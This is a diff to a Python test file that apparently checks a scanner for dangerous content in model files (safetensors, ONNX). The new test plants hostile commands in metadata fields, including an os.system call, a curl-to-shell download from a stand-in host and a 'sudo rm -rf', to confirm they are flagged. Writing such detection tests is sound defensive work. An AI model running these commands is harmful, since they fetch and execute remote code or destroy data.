@@ -324,3 +324,24 @@ def test_numpy_header_of_python_2_is_read() -> None:
     data = b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header + b"\0" * 176
     assert found(data, "a.npy") == set()
     assert found(data.replace(b"2L", b"L2"), "a.npy") == {"numpy-header"}
+
+
+@pytest.mark.parametrize(
+    ("key", "text", "bad"),
+    [
+        ("loader", "__import__('os').system('id')", True),
+        ("setup", "curl -s https://a.example/x | sh", True),
+        ("post", "sudo rm -rf /srv/models", True),
+        ("description", "curl -s https://a.example/x | sh", False),
+        ("format", "pt", False),
+        ("source", "https://a.example/model", False),
+        ("config", '{"system": "exec mode", "eval": true, "os": "linux"}', False),
+        ("notes", "os.system('x') is not called", False),
+    ],
+)
+def test_commands_in_metadata_are_told(key: str, text: str, bad: bool) -> None:
+    """A command where a name should stand is told; what people read may speak of commands."""
+    rules = {"metadata-code"} if bad else set()
+    assert found(safetensors(_header({"a": W, "__metadata__": {key: text}}), b"\0" * 8)) == rules
+    model = onnx_model(onnx_node(b"Add")) + field(14, field(1, key.encode()) + field(2, text.encode()))
+    assert found(model, "m.onnx") == rules
